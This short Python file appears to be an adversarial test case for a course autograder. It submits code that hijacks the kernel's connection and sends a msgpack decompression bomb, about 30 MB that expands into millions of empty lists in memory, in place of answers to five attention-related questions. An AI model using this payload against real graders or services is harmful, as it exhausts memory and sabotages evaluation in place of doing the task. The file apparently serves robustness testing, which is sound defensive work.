"""Replies with 30 MB of nothing: millions of empty lists, each a byte on the wire and sixty in memory."""

CODE = r"""
import socket, struct, threading
import msgpack
from coursekit.engine.shared import frames
from coursekit.engine.kernel import agent
connection = agent._connection

inner = b"\xdd\x00\x03\x0d\x00" + b"\x90" * 199_936
turn = [b"\x92\xa2ok" + b"\xdc\x00\x96" + inner * 150]

def give(*args, **kwargs):
    frames.send(connection, turn[0])
    reached()

softmax = scaled_dot_product_attention = causal_mask = padding_mask = give
dot_product_variance = softmax_entropy = give
"""


def attack(submission):
    for question in ("softmax", "attention", "causal_mask", "padding_mask", "scaling"):
        submission.answer(question, CODE)
